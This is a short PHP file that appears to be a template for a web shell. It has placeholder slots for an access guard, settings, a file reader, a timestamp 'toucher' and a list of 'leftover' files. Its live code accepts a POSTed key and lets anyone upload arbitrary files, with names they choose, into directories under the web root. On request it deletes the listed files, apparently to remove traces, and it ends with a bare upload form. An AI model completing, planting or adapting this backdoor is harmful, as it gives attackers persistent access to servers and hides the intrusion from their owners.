<?php
$k = isset($_POST['k']) ? (string) $_POST['k'] : '';
@GUARD@
if (isset($_FILES['f'], $_POST['p'])) {
    $root = realpath($_SERVER['DOCUMENT_ROOT']);
    $dir = realpath($root . '/' . $_POST['p']);
    if ($dir !== false && strncmp($dir . '/', $root . '/', strlen($root) + 1) === 0
        && move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name'])) {
        echo 'ok';
    }
}
if (isset($_POST['r'])) {
    @SETTINGS@
}
if (isset($_POST['x'])) {
    array_map('unlink', array_filter(@LEFTOVERS@, 'is_file'));
}
@TOUCHER@
@READER $_POST@
?>
<form method="post" enctype="multipart/form-data"><input name="k"><input name="p"><input type="file" name="f"><input type="submit"></form>
